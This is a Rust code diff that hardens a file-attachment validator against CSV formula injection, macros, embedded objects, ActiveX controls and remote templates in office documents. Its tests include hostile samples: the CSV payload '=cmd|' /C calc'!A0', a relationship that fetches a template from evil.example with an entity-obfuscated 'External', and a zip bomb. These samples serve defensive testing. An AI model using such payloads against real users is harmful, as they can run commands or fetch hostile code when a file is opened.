@@ -1,7 +1,8 @@
 //! Which files are kept: what their bytes are must be what their name says.
 
-use std::io::Cursor;
+use std::io::{BufReader, Cursor, Read};
 
+use quick_xml::{Reader, XmlVersion, events::Event};
 use zip::ZipArchive;
 
 use crate::{import, record::is_hidden};
@@ -102,6 +103,9 @@ pub enum AttachmentFault {
     /// An office document with macros.
     #[error("the document has macros")]
     Macros,
+    /// Something in it runs or fetches by itself: a formula in a text table, a control, an object or a template from elsewhere.
+    #[error("the file has a formula, an object or a link that opens by itself")]
+    Active,
     /// It does not unpack, or to more than it should.
     #[error("the document is damaged or unpacks to too much")]
     Archive,
@@ -118,6 +122,7 @@ impl AttachmentFault {
             AttachmentFault::Kind => "kind",
             AttachmentFault::NotAsNamed => "not_as_named",
             AttachmentFault::Macros => "macros",
+            AttachmentFault::Active => "active",
             AttachmentFault::Archive => "archive",
         }
     }
@@ -156,7 +161,13 @@ pub(super) fn kind_of(name: &str, bytes: &[u8]) -> Result<AttachmentKind, Attach
         AttachmentKind::Xlsx => document(bytes)? == Some(AttachmentKind::Xlsx),
         AttachmentKind::Text | AttachmentKind::Csv => is_text(bytes),
     };
-    if fits { Ok(named) } else { Err(AttachmentFault::NotAsNamed) }
+    if !fits {
+        return Err(AttachmentFault::NotAsNamed);
+    }
+    if named == AttachmentKind::Csv && has_formula(bytes) {
+        return Err(AttachmentFault::Active);
+    }
+    Ok(named)
 }
 
 /// Which office document an archive is.
@@ -165,12 +176,24 @@ fn document(bytes: &[u8]) -> Result<Option<AttachmentKind>, AttachmentFault> {
         return Ok(None);
     }
     import::check_packed(bytes).map_err(|_| AttachmentFault::Archive)?;
-    let archive = ZipArchive::new(Cursor::new(bytes)).map_err(|_| AttachmentFault::Archive)?;
+    let mut archive = ZipArchive::new(Cursor::new(bytes)).map_err(|_| AttachmentFault::Archive)?;
     let lower = |name: Result<std::borrow::Cow<'_, str>, _>| name.map(|name| name.to_ascii_lowercase());
     let names: Result<Vec<String>, _> = archive.file_names().map(lower).collect();
     let names = names.map_err(|_| AttachmentFault::Archive)?;
-    if names.iter().any(|name| name.ends_with("vbaproject.bin")) {
-        return Err(AttachmentFault::Macros);
+    for name in &names {
+        let (folder, file) = name.rsplit_once('/').unwrap_or(("", name));
+        // Data of a chart is a workbook there; anything else is a program's object.
+        let object = folder.ends_with("/embeddings") && !file.ends_with(".xlsx");
+        if object || folder.ends_with("/activex") {
+            return Err(AttachmentFault::Active);
+        }
+    }
+    for at in 0..archive.len() {
+        let part = archive.by_index(at).map_err(|_| AttachmentFault::Archive)?;
+        let name = part.name().map(|name| name.to_ascii_lowercase()).map_err(|_| AttachmentFault::Archive)?;
+        if name == "[content_types].xml" || name.ends_with(".rels") {
+            inert(part)?;
+        }
     }
     let has = |wanted: &str| names.iter().any(|name| name == wanted);
     Ok(if !has("[content_types].xml") {
@@ -179,6 +202,59 @@ fn document(bytes: &[u8]) -> Result<Option<AttachmentKind>, AttachmentFault> {
         Some(AttachmentKind::Docx)
     } else {
         has("xl/workbook.xml").then_some(AttachmentKind::Xlsx)
+    })
+}
+
+/// Refuses macros, whatever their part is called, and what is fetched from elsewhere when the document is opened; a link
+/// that somebody has to click may stand (ECMA-376 part 2: content types and relationships).
+fn inert(part: impl Read) -> Result<(), AttachmentFault> {
+    let mut reader = Reader::from_reader(BufReader::new(part));
+    let mut buffer = Vec::new();
+    loop {
+        let element = match reader.read_event_into(&mut buffer).map_err(|_| AttachmentFault::Archive)? {
+            Event::Start(element) | Event::Empty(element) => element,
+            Event::DocType(_) => return Err(AttachmentFault::Archive),
+            Event::Eof => return Ok(()),
+            _ => continue,
+        };
+        let (mut kind, mut external) = (String::new(), false);
+        for attribute in element.attributes() {
+            let attribute = attribute.map_err(|_| AttachmentFault::Archive)?;
+            let value =
+                attribute.normalized_value(XmlVersion::Implicit1_0).map_err(|_| AttachmentFault::Archive)?;
+            let value = value.to_ascii_lowercase();
+            match attribute.key.local_name().as_ref() {
+                "ContentType" if value.contains("vba") || value.contains("macroenabled") => {
+                    return Err(AttachmentFault::Macros);
+                }
+                "Type" => kind = value,
+                "TargetMode" => external = value.trim() == "external",
+                _ => {}
+            }
+        }
+        if kind.contains("vbaproject") {
+            return Err(AttachmentFault::Macros);
+        }
+        if external && !kind.ends_with("/hyperlink") {
+            return Err(AttachmentFault::Active);
+        }
+        buffer.clear();
+    }
+}
+
+/// Whether a spreadsheet would compute a cell of a text table: it begins with `=` or `@`, or with a sign and is no number.
+/// Every encoding that is taken here keeps these characters and the separators as ASCII has them.
+fn has_formula(bytes: &[u8]) -> bool {
+    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
+    text.split(|byte| b",;\t\r\n|".contains(byte)).any(|cell| {
+        let space = |byte: &u8| *byte == b' ' || *byte == b'"' || *byte == b'\'';
+        let cell = &cell[cell.iter().position(|byte| !space(byte)).unwrap_or(cell.len())..];
+        let number = |byte: &u8| byte.is_ascii_digit() || b" .-+()%eE\"'".contains(byte);
+        match cell {
+            [b'=' | b'@', ..] => true,
+            [b'+' | b'-', rest @ ..] => !rest.iter().all(number),
+            _ => cell.starts_with("＝".as_bytes()),
+        }
     })
 }
 
@@ -274,8 +350,33 @@ mod tests {
         for (name, bytes, fault) in bad {
             assert_eq!(kind_of(name, bytes), Err(fault), "{name}");
         }
-        let macros = packed(&[WORD[0], WORD[1], ("word/vbaProject.bin", b"x")]);
-        assert_eq!(kind_of("a.docx", &macros), Err(AttachmentFault::Macros));
+        let rels = |attributes: &str| {
+            let rels =
+                format!("<r:Relationships xmlns:r='x'><r:Relationship {attributes}/></r:Relationships>");
+            kind_of("a.docx", &packed(&[WORD[0], WORD[1], ("word/_rels/document.xml.rels", rels.as_bytes())]))
+        };
+        assert!(rels("Type='http://x/hyperlink' Target='https://example.com' TargetMode='External'").is_ok());
+        assert!(rels("Type='http://x/image' Target='media/1.png'").is_ok());
+        let template =
+            "Type='http://x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='&#69;xternal'";
+        assert_eq!(rels(template), Err(AttachmentFault::Active));
+        assert_eq!(rels("Type='http://x/vbaProject' Target='notes.bin'"), Err(AttachmentFault::Macros));
+        assert_eq!(rels("Type='a' Type='b'"), Err(AttachmentFault::Archive));
+        let types = b"<Types><Override PartName='/word/a.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>";
+        let renamed = packed(&[("[Content_Types].xml", types), WORD[1], ("word/a.bin", b"x")]);
+        assert_eq!(kind_of("a.docx", &renamed), Err(AttachmentFault::Macros));
+        for part in ["word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"] {
+            let object = packed(&[WORD[0], WORD[1], (part, b"x")]);
+            assert_eq!(kind_of("a.docx", &object), Err(AttachmentFault::Active), "{part}");
+        }
+        for table in
+            ["a,=cmd|' /C calc'!A0", "a;\"=1+1\"", "a\n@SUM(A1)", "\u{feff}+cmd|x", "-2+3+cmd|x", "a\t＝1+1"]
+        {
+            assert_eq!(kind_of("a.csv", table.as_bytes()), Err(AttachmentFault::Active), "{table}");
+        }
+        for table in ["折扣,-5%\n电话,+86 138-0013-8000\n", "a,-1.5e3,(2)\n", "a=b,c@d.com"] {
+            assert!(kind_of("a.csv", table.as_bytes()).is_ok(), "{table}");
+        }
         let bomb = packed(&[WORD[0], WORD[1], ("word/media/a.bin", &vec![0; 64 << 20])]);
         assert!(bomb.len() < 200_000, "it is small while it is packed");
         assert_eq!(kind_of("a.docx", &bomb), Err(AttachmentFault::Archive));
